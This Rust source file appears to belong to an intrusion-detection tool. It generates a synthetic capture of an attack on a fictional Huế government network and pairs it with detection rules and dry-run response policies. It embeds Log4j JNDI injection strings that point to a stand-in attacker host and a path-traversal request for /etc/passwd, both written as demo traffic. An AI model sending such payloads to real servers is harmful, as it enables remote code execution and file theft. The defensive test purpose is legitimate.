//! The demo scenario: one morning on a provincial government WAN (Huế), with an attack
//! in six acts among ordinary traffic, and the project's own rules that detect it.
//!
//! Addresses: the WAN is 10.46.0.0/16; attackers use documentation ranges
//! (198.51.100.0/24, 203.0.113.0/24), so the capture never names a real host.

use std::net::{Ipv4Addr, SocketAddrV4};

use super::{
    dns_message, eth_ipv4, icmp_echo, tls_client_hello, udp_datagram, Capture, TcpSession,
};

/// 2026-10-14 08:00:00 in Asia/Ho_Chi_Minh (01:00 UTC).
pub const START_US: i64 = 1_791_939_600_000_000;

pub(crate) const PORTAL: Ipv4Addr = Ipv4Addr::new(10, 46, 10, 20); // Sở Tài chính web portal
pub(crate) const RESOLVER: Ipv4Addr = Ipv4Addr::new(10, 46, 1, 53); // Sở TT&TT DNS resolver
pub(crate) const SSH_SERVER: Ipv4Addr = Ipv4Addr::new(10, 46, 20, 22); // Sở Y tế server
pub(crate) const WORKSTATION: Ipv4Addr = Ipv4Addr::new(10, 46, 120, 15); // UBND phường Phú Hội
pub(crate) const SCANNER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 45);
pub(crate) const BRUTEFORCER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 23);
pub(crate) const EXPLOITER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 77);
pub(crate) const C2: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 200);
pub(crate) const MALWARE_HOST: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 99);
pub(crate) const C2_NAME: &str = "update.hue-gov-portal.top";

/// The `HOME_NET` of the demo.
pub const HOME_NET: &str = "[10.46.0.0/16]";

/// The demo's asset inventory (the correlator's `correlator.assets`).
pub const ASSETS: &str = r#"# Gatewatch demo: the asset inventory of a provincial government WAN (Huế).
# Networks and hosts -> agency, system, security level (Decree 85/2016, 1-5),
# criticality, owner. The most specific entry wins.

[[agencies]]
id = "so-tttt"
name = "Sở Thông tin và Truyền thông"
name_en = "Department of Information and Communications"

[[agencies]]
id = "so-tai-chinh"
name = "Sở Tài chính"
name_en = "Department of Finance"

[[agencies]]
id = "so-y-te"
name = "Sở Y tế"
name_en = "Department of Health"

[[agencies]]
id = "ubnd-phu-hoi"
name = "UBND phường Phú Hội"
name_en = "Phú Hội Ward People's Committee"

[[assets]]
address = "10.46.1.0/24"
agency = "so-tttt"
system = "Trung tâm dữ liệu tỉnh"
security_level = 3
criticality = "high"
owner = "Trung tâm CNTT <soc@hue.gov.vn>"

[[assets]]
address = "10.46.1.53"
agency = "so-tttt"
system = "DNS phân giải nội bộ"
security_level = 3
criticality = "critical"
owner = "Trung tâm CNTT <soc@hue.gov.vn>"

[[assets]]
address = "10.46.10.0/24"
agency = "so-tai-chinh"
system = "Mạng nội bộ Sở Tài chính"
security_level = 2
criticality = "medium"

[[assets]]
address = "10.46.10.20"
agency = "so-tai-chinh"
system = "Cổng thông tin điện tử"
security_level = 3
criticality = "high"
owner = "Phòng Tin học <tinhoc@stc.hue.gov.vn>"

[[assets]]
address = "10.46.20.0/24"
agency = "so-y-te"
system = "Hệ thống thông tin y tế"
security_level = 4
criticality = "critical"

[[assets]]
address = "10.46.120.0/24"
agency = "ubnd-phu-hoi"
system = "Mạng văn phòng phường"
security_level = 1
criticality = "low"
"#;

/// The demo's rules (the project's own, written for this scenario).
pub const RULES: &str = r#"# Gatewatch demo rules: written for the synthetic Huế capture of `gatewatch demo`.
alert tcp $EXTERNAL_NET any -> $HOME_NET any (msg:"GW-DEMO SCAN TCP SYN sweep from an external host"; flags:S,12; threshold: type threshold, track by_src, count 50, seconds 60; classtype:attempted-recon; sid:9000001; rev:1; metadata:mitre_tactic_id TA0043, mitre_technique_id T1595;)
alert tcp $EXTERNAL_NET any -> $HOME_NET 22 (msg:"GW-DEMO SSH brute force: repeated logins from one source"; flow:to_server,established,only_stream; content:"SSH-"; depth:4; detection_filter: track by_src, count 10, seconds 120; classtype:attempted-admin; sid:9000002; rev:1; metadata:mitre_tactic_id TA0006, mitre_technique_id T1110;)
alert http $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:"GW-DEMO Apache Log4j RCE attempt (CVE-2021-44228) in an HTTP request"; flow:to_server,established; http.header; content:"${jndi:"; nocase; fast_pattern; pcre:"/\$\{jndi:(ldap|rmi|dns)s?:\/\//i"; reference:cve,2021-44228; classtype:attempted-admin; sid:9000003; rev:1; metadata:mitre_tactic_id TA0001, mitre_technique_id T1190;)
alert http $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:"GW-DEMO Path traversal to /etc/passwd in an HTTP request"; flow:to_server,established; http.uri.raw; content:"../"; content:"etc/passwd"; distance:0; classtype:web-application-attack; sid:9000004; rev:1; metadata:mitre_tactic_id TA0001, mitre_technique_id T1190;)
alert dns $HOME_NET any -> any any (msg:"GW-DEMO DNS lookup of a known malware domain (hue-gov-portal.top)"; dns.query; dotprefix; content:".hue-gov-portal.top"; nocase; endswith; fast_pattern; classtype:trojan-activity; sid:9000005; rev:1; metadata:mitre_tactic_id TA0011, mitre_technique_id T1071.004;)
alert tls $HOME_NET any -> $EXTERNAL_NET any (msg:"GW-DEMO TLS ClientHello to the C2 name update.hue-gov-portal.top"; flow:to_server,established; tls.sni; content:"update.hue-gov-portal.top"; nocase; bsize:25; classtype:command-and-control; sid:9000006; rev:1; metadata:mitre_tactic_id TA0011, mitre_technique_id T1573;)
alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"GW-DEMO Windows executable downloaded over HTTP"; flow:to_client,established; http.stat_code; content:"200"; file.data; content:"MZ"; startswith; content:"This program cannot be run in DOS mode"; distance:0; classtype:trojan-activity; sid:9000007; rev:1; metadata:mitre_tactic_id TA0002, mitre_technique_id T1204.002;)
alert icmp $EXTERNAL_NET any -> $HOME_NET any (msg:"GW-DEMO ICMP echo from outside (informational)"; itype:8; threshold: type limit, track by_src, count 1, seconds 3600; classtype:misc-activity; sid:9000008; rev:1;)
"#;

/// The demo's response policies (written to `response.toml` beside the capture). They
/// run in dry-run: the demo changes no firewall.
pub const RESPONSE: &str = r#"# Response policies of the Gatewatch demo. `gatewatch demo` runs them in dry-run.
# Copy the [response] section into a configuration file to use them for real.
[response]
max_blocks_per_minute = 20
pardon = "24h"

[response.allowlists]
# The province's DNS resolvers and the SOC's own network are never blocked.
resolvers = ["10.46.1.53"]
soc = ["10.46.1.0/28"]
# Critical systems (from the asset inventory) and the province's domains.
critical = ["criticality:critical", "level:4", "hue.gov.vn"]

[response.actions.edge-firewall]
kind = "nft"
table = "gatewatch"
create = true

[response.actions.dns-sinkhole]
kind = "program"
block = ["/usr/local/sbin/gw-sinkhole", "add", "{target}", "{ttl}"]
unblock = ["/usr/local/sbin/gw-sinkhole", "del", "{target}"]

[[response.policies]]
name = "block-external-attackers"
mode = "enforce"
action = "edge-firewall"
target = "source"
classes = ["intrusion-attempts", "intrusions"]
min_score = 50
ttl = "1h"
max_ttl = "7d"

[[response.policies]]
name = "cut-command-and-control"
mode = "enforce"
action = "edge-firewall"
target = "destination"
classes = ["malicious-code"]
zones = ["external", "internal"]
ttl = "6h"

[[response.policies]]
name = "sinkhole-malware-domains"
mode = "enforce"
action = "dns-sinkhole"
target = "domain"
classes = ["malicious-code"]
ttl = "1d"

[[response.policies]]
name = "quarantine-infected-host"
mode = "approve"
action = "edge-firewall"
target = "host"
classes = ["malicious-code"]
min_score = 50
ttl = "4h"
"#;

fn sa(ip: Ipv4Addr, port: u16) -> SocketAddrV4 {
    SocketAddrV4::new(ip, port)
}

fn secs(s: i64) -> i64 {
    START_US + s * 1_000_000
}

/// Builds the demo capture: ordinary traffic, then the six acts of the scenario.
pub fn capture() -> Capture {
    let mut cap = Capture::default();
    background(&mut cap);
    scan(&mut cap);
    ssh_guessing(&mut cap);
    exploits(&mut cap);
    malware_lookups(&mut cap);
    beacons(&mut cap);
    download(&mut cap);
    cap
}

/// Act 1 — 08:00: an ICMP probe, then a SYN sweep of the finance portal, 200 ports.
fn scan(cap: &mut Capture) {
    for (i, port) in (1..=200u16).map(|p| p * 5).enumerate() {
        let mut s = TcpSession::new(
            sa(SCANNER, 40_000 + i as u16),
            sa(PORTAL, port),
            secs(10) + i as i64 * 20_000,
        );
        if matches!(port, 80 | 443) {
            s.handshake();
        } else {
            s.refused();
        }
        cap.add(s.into_frames());
    }
    for seq in 0..3u16 {
        let e = icmp_echo(true, 0x4a4a, seq, b"gatewatch-probe");
        cap.push(secs(5) + seq as i64 * 1_000_000, eth_ipv4(SCANNER, PORTAL, 1, &e, 100 + seq));
        let r = icmp_echo(false, 0x4a4a, seq, b"gatewatch-probe");
        cap.push(
            secs(5) + seq as i64 * 1_000_000 + 800,
            eth_ipv4(PORTAL, SCANNER, 1, &r, 200 + seq),
        );
    }
}

/// Act 2 — 08:05: SSH password guessing against the health department's server.
fn ssh_guessing(cap: &mut Capture) {
    for i in 0..30u16 {
        let mut s = TcpSession::new(
            sa(BRUTEFORCER, 51_000 + i),
            sa(SSH_SERVER, 22),
            secs(300) + i as i64 * 2_000_000,
        );
        s.handshake()
            .server_send(b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6\r\n")
            .client_send(b"SSH-2.0-libssh2_1.10.0\r\n")
            .client_send(&[0u8; 96])
            .server_send(&[1u8; 64])
            .close();
        cap.add(s.into_frames());
    }
}

/// Act 3 — 08:10: exploit attempts against the portal.
fn exploits(cap: &mut Capture) {
    let exploits: [&[u8]; 3] = [
        b"GET /?search=${jndi:ldap://203.0.113.77:1389/Exploit} HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nUser-Agent: ${jndi:ldap://203.0.113.77:1389/a}\r\nAccept: */*\r\n\r\n",
        b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n",
        b"POST /api/login HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nX-Api-Version: ${jndi:rmi://203.0.113.77/x}\r\nContent-Length: 2\r\n\r\n{}",
    ];
    for (i, req) in exploits.iter().enumerate() {
        let mut s = TcpSession::new(
            sa(EXPLOITER, 46_000 + i as u16),
            sa(PORTAL, 80),
            secs(600) + i as i64 * 30_000_000,
        );
        let status: &[u8] = if i == 1 {
            b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
        } else {
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>"
        };
        s.handshake().client_send(req).server_send(status).close();
        cap.add(s.into_frames());
    }
}

/// Act 4 — 08:20: the commune workstation resolves the malware domain.
fn malware_lookups(cap: &mut Capture) {
    for i in 0..4u16 {
        let q = dns_message(0x5100 + i, C2_NAME, None);
        let a = dns_message(0x5100 + i, C2_NAME, Some(C2));
        let t = secs(1200) + i as i64 * 60_000_000;
        cap.push(
            t,
            eth_ipv4(
                WORKSTATION,
                RESOLVER,
                17,
                &udp_datagram(WORKSTATION, RESOLVER, 53_000 + i, 53, &q),
                300 + i,
            ),
        );
        cap.push(
            t + 2_000,
            eth_ipv4(
                RESOLVER,
                WORKSTATION,
                17,
                &udp_datagram(RESOLVER, WORKSTATION, 53, 53_000 + i, &a),
                400 + i,
            ),
        );
    }
}

/// Act 5 — 08:21: TLS beacons to the C2 server, once a minute.
fn beacons(cap: &mut Capture) {
    for i in 0..5u16 {
        let mut s = TcpSession::new(
            sa(WORKSTATION, 49_700 + i),
            sa(C2, 443),
            secs(1201) + i as i64 * 60_000_000,
        );
        s.handshake()
            .client_send(&tls_client_hello(C2_NAME))
            .server_send(&[0x16, 0x03, 0x03, 0x00, 0x04, 0x0e, 0, 0, 0])
            .close();
        cap.add(s.into_frames());
    }
}

/// Act 6 — 08:30: the workstation downloads an executable.
fn download(cap: &mut Capture) {
    let body = super::files::pe32_program(3000);
    let mut resp = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: {}\r\nContent-Disposition: attachment; filename=\"hoadon_thang10.exe\"\r\n\r\n",
        body.len()
    )
    .into_bytes();
    resp.extend_from_slice(&body);
    let mut s = TcpSession::new(sa(WORKSTATION, 49_800), sa(MALWARE_HOST, 80), secs(1800));
    s.handshake()
        .client_send(b"GET /download/hoadon_thang10.exe HTTP/1.1\r\nHost: 203.0.113.99\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\r\n")
        .server_send(&resp)
        .close();
    cap.add(s.into_frames());
}

/// Ordinary traffic: citizens' portal visits, DNS of government names, pings.
fn background(cap: &mut Capture) {
    let names = [
        "hue.gov.vn",
        "dichvucong.gov.vn",
        "thuathienhue.gov.vn",
        "vnexpress.net",
        "mail.hue.gov.vn",
    ];
    for i in 0..40u16 {
        let client = Ipv4Addr::new(10, 46, 100 + (i % 20) as u8, 10 + (i % 7) as u8);
        let t = secs(i as i64 * 45);
        let name = names[i as usize % names.len()];
        let q = dns_message(0x1000 + i, name, None);
        let a = dns_message(0x1000 + i, name, Some(Ipv4Addr::new(10, 46, 10, 20)));
        cap.push(
            t,
            eth_ipv4(client, RESOLVER, 17, &udp_datagram(client, RESOLVER, 33_000 + i, 53, &q), i),
        );
        cap.push(
            t + 1_500,
            eth_ipv4(RESOLVER, client, 17, &udp_datagram(RESOLVER, client, 53, 33_000 + i, &a), i),
        );
        let mut s = TcpSession::new(
            SocketAddrV4::new(client, 50_000 + i),
            SocketAddrV4::new(PORTAL, 80),
            t + 5_000,
        );
        s.handshake()
            .client_send(b"GET /thu-tuc-hanh-chinh HTTP/1.1\r\nHost: portal.stc.hue.gov.vn\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
            .server_send(b"HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: 30\r\n\r\n<html>Th\xe1\xbb\xa7 t\xe1\xbb\xa5c h\xc3\xa0nh</html>")
            .close();
        cap.add(s.into_frames());
    }
    for seq in 0..10u16 {
        let t = secs(seq as i64 * 120);
        let src = Ipv4Addr::new(10, 46, 1, 10);
        cap.push(t, eth_ipv4(src, PORTAL, 1, &icmp_echo(true, 7, seq, b"monitoring"), 900 + seq));
        cap.push(
            t + 500,
            eth_ipv4(PORTAL, src, 1, &icmp_echo(false, 7, seq, b"monitoring"), 950 + seq),
        );
    }
}
